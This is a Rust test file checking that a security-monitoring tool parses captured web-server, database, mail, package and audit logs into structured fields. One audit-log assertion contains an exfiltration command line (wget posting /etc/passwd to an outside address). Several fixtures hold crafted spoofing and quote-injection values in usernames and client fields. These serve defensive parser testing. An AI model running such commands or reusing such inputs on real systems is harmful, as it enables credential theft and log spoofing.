//! What real programs wrote, read by the parsers: see `captured/README.md`.

#![allow(clippy::unwrap_used)]

use jiff::tz::TimeZone;
use soc_event::{Event, Value};
use soc_formats::join::Rule;
use soc_formats::text::{self, Moment, Profile};
use soc_formats::{Joiner, Lineage};

/// The records of a captured file, as an agent that follows it would read them.
fn events(file: &str, path: &str) -> Vec<Event> {
    let folder = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/captured/");
    let log = std::fs::read_to_string(format!("{folder}{file}")).unwrap();
    let zone = TimeZone::UTC;
    let moment = Moment::kept("2026-11-22T18:00:00Z".parse().unwrap(), &zone);
    let profile = Profile::of_path(path);
    let (mut joiner, mut found) = (Joiner::new(Rule::of(profile.format)), Vec::new());
    let mut take = |joined: soc_formats::join::Joined| {
        found.push(text::line(&joined.text, &profile, moment));
    };
    for (place, line) in (0..).zip(log.lines().filter(|line| !line.is_empty())) {
        joiner.push(line, place, false, &mut take);
    }
    joiner.flush(&mut take);
    found
}

/// The fields of the only event that holds a text, without those that repeat it.
fn check(events: &[Event], text: &str, expected: &str) {
    let has = |event: &&Event| event.raw.as_deref().unwrap_or_default().contains(text);
    let found: Vec<&Event> = events.iter().filter(has).collect();
    assert_eq!(found.len(), 1, "{text}: {found:?}");
    let hidden = ["message", "host.name", "process.pid", "process.name"];
    let fields = found[0].fields.iter().filter(|(name, _)| !hidden.contains(&name.as_str()));
    let shown: Vec<String> = fields.map(|(name, value)| format!("{name}={value}")).collect();
    assert_eq!(shown.join(" "), expected, "{text}");
}

fn unparsed(events: &[Event]) -> Vec<&str> {
    let is_unparsed = |event: &&Event| event.fields.contains_key(text::UNPARSED);
    events.iter().filter(is_unparsed).filter_map(|event| event.raw.as_deref()).collect()
}

fn times(events: &[Event]) -> Vec<String> {
    events.iter().map(|event| event.time.to_string()).collect()
}

#[test]
fn nginx_says_why_and_from_where() {
    let events = events("nginx-error.log", "/var/log/nginx/error.log");
    assert!(unparsed(&events).is_empty());
    assert_eq!(times(&events)[0], "2026-11-22T16:47:49.000000Z");
    assert_eq!(events[0].logsource.product.as_deref(), Some("nginx"));
    assert_eq!(events[0].logsource.service.as_deref(), Some("error"));
    check(
        &events,
        "mismatch",
        "event.action=web_login event.outcome=failure log.level=error source.ip=127.0.0.1 user.name=bob",
    );
    // The name that was typed is `eve, client: 1.2.3.4`, which ends at its colon.
    check(
        &events,
        "was not found",
        "event.action=web_login event.outcome=failure log.level=error source.ip=127.0.0.1 user.name=eve, client",
    );
}

#[test]
fn apache_says_why_and_from_where() {
    let events = events("apache-error.log", "/var/log/apache2/error.log");
    // A CGI program's own words come as they are.
    assert_eq!(unparsed(&events), ["boom, client 9.9.9.9"]);
    assert_eq!(times(&events)[2], "2026-11-22T16:49:21.080625Z");
    check(
        &events,
        "Mismatch",
        "event.action=web_login event.code=AH01617 event.outcome=failure log.level=error log.logger=auth_basic source.ip=127.0.0.1 source.port=45488 user.name=bob",
    );
    check(
        &events,
        "user eve",
        "event.action=web_login event.code=AH01618 event.outcome=failure log.level=error log.logger=auth_basic source.ip=127.0.0.1 source.port=45490 user.name=eve",
    );
    check(&events, "Connection refused", "event.code=AH00957 log.level=error log.logger=proxy");
    // What a browser says it came from cannot be its address.
    check(
        &events,
        "[client_1.2.3.4:5]",
        "event.code=AH01630 log.level=error log.logger=authz_core source.ip=127.0.0.1 source.port=45546",
    );
}

#[test]
fn postgresql_logins_are_told() {
    let events = events("postgresql.log", "/var/log/postgresql/postgresql-15-main.log");
    assert!(unparsed(&events).is_empty());
    assert_eq!(times(&events)[0], "2026-11-22T16:48:38.525000Z");
    check(
        &events,
        "FATAL:  password authentication failed for user \"postgres\"",
        "database.name=postgres event.action=database_login event.outcome=failure log.level=fatal user.name=postgres",
    );
    check(
        &events,
        "FATAL:  password authentication failed for user \"no",
        "database.name=postgres event.action=database_login event.outcome=failure log.level=fatal user.name=no\"body x",
    );
    let statement = events.iter().find(|event| event.text("log.level") == Some("statement"));
    let said = statement.and_then(|event| event.text("message")).unwrap();
    assert!(said.ends_with("where x='a'"), "three lines are one statement: {said}");
}

#[test]
fn postgresql_csv_keeps_apart_what_a_client_sent() {
    let events = events("postgresql.csv", "/var/log/postgresql/postgresql.csv");
    assert!(unparsed(&events).is_empty(), "{:?}", unparsed(&events));
    check(
        &events,
        "28P01,\"password authentication failed for user \"\"no\"\"body x",
        "database.name=postgres error.detail=Role \"no\"body x\" does not exist.\nConnection matched pg_hba.conf line 87: \"host    all             all             127.0.0.1/32            scram-sha-256\" event.action=database_login event.code=28P01 event.outcome=failure log.level=fatal source.ip=127.0.0.1 source.port=39986 user.name=no\"body x",
    );
    check(
        &events,
        "relation \"\"nothing\"\"",
        "database.name=postgres database.query=select *\n from nothing \n where x='a' event.code=42P01 log.level=error source.ip=127.0.0.1 source.port=39996 user.name=postgres",
    );
}

#[test]
fn mariadb_logins_are_told() {
    let events = events("mariadb-error.log", "/var/log/mysql/error.log");
    assert!(unparsed(&events).is_empty());
    check(
        &events,
        "'eve'",
        "event.action=database_login event.outcome=failure log.level=warning source.domain=localhost user.name=eve",
    );
    check(
        &events,
        "to database",
        "event.action=database_login event.outcome=failure log.level=warning source.domain=localhost user.name=bob",
    );
    let version =
        events.iter().find(|event| event.raw.as_deref().unwrap_or_default().contains("Version: "));
    let said = version.and_then(|event| event.raw.as_deref()).unwrap();
    assert!(said.contains("ready for connections.\nVersion: "), "{said}");
}

#[test]
fn postfix_says_who_sent_what_and_who_was_refused() {
    let events = events("postfix-mail.log", "/var/log/mail.log");
    let failures = events.iter().filter(|event| event.text("event.action") == Some("mail_login"));
    assert_eq!(failures.count(), 9);
    check(
        &events,
        "SASL LOGIN authentication failed: generic failure, sasl_username=eve",
        "event.action=mail_login event.outcome=failure log.level=warning mail.sasl.method=LOGIN source.ip=127.0.0.1 user.name=eve",
    );
    check(
        &events,
        "Relay access denied",
        "email.from.address=spam@evil.example email.to.address=v@far.example event.action=mail_rejected event.outcome=failure mail.response.code=454 source.domain=localhost source.ip=127.0.0.1",
    );
    check(
        &events,
        "nrcpt=2",
        "email.from.address=a@b.example email.local_id=18B799B41C1 email.size.bytes=258",
    );
    check(
        &events,
        "status=sent",
        "email.local_id=18B799B41C1 email.to.address=x@mail.example.vn event.action=mail_delivery event.outcome=success mail.dsn=2.0.0 mail.relay=none mail.status=sent mail.transport=discard",
    );
    check(
        &events,
        "status=deferred",
        "email.local_id=18B799B41C1 email.to.address=y@far.example event.action=mail_delivery event.outcome=failure mail.dsn=4.4.1 mail.relay=none mail.status=deferred mail.transport=smtp",
    );
    check(&events, "message-id=", "email.local_id=18B799B41C1 email.message_id=m1@b.example");
}

#[test]
fn packages_that_come_and_go_are_told() {
    let dpkg = events("dpkg.log", "/var/log/dpkg.log");
    assert!(unparsed(&dpkg).is_empty());
    check(
        &dpkg,
        "install rsyslog",
        "event.action=package_installed package.architecture=amd64 package.name=rsyslog package.version=8.2302.0-1+deb12u2",
    );
    let apt = events("apt-history.log", "/var/log/apt/history.log");
    assert_eq!(apt.len(), 2);
    check(
        &apt,
        "apt-get -qqy upgrade",
        "event.action=package_transaction event.outcome=success package.upgraded=libsystemd0:amd64 252.36-1~deb12u1, 252.38-1~deb12u1, libudev1:amd64 252.36-1~deb12u1, 252.38-1~deb12u1 process.command_line=apt-get -qqy upgrade",
    );
}

#[test]
fn programs_that_start_are_one_event_with_all_that_is_known() {
    let mut lineage = Lineage::default();
    let mut events = events("audit.log", "/var/log/audit/audit.log");
    assert!(unparsed(&events).is_empty());
    events.iter_mut().for_each(|event| lineage.name_parent(event));
    let started: Vec<&Event> = events
        .iter()
        .filter(|event| event.logsource.category.as_deref() == Some("process_creation"))
        .collect();
    assert_eq!(started.len(), 12, "four, and eight at once");
    let wget = started.iter().find(|event| event.text("Image") == Some("/tmp/cap/audit/wget"));
    let wget = wget.unwrap();
    for (name, expected) in [
        ("CommandLine", "./wget --post-file=/etc/passwd http://192.0.2.1/á -m 0.1 -s"),
        ("a1", "--post-file=/etc/passwd"),
        ("CurrentDirectory", "/tmp/cap/audit"),
        ("User", "root"),
        ("ParentImage", "/tmp/cap/audit/sh"),
        ("SYSCALL", "execve"),
        ("key", "prog"),
        ("msg", "audit(1795366825.790:36)"),
    ] {
        assert_eq!(wget.text(name), Some(expected), "{name}");
    }
    let types = ["SYSCALL", "BPRM_FCAPS", "EXECVE", "CWD", "PATH", "PROCTITLE"];
    assert_eq!(wget.fields.get("type"), Some(&Value::List(types.map(Value::from).to_vec())));
    let written = events.iter().find(|event| {
        event.fields.get("nametype").is_some_and(|kind| kind.to_string().contains("CREATE"))
    });
    let names = written.and_then(|event| event.fields.get("name")).unwrap();
    assert_eq!(*names, Value::List(vec!["w/".into(), "w/new\nfile".into()]));
}
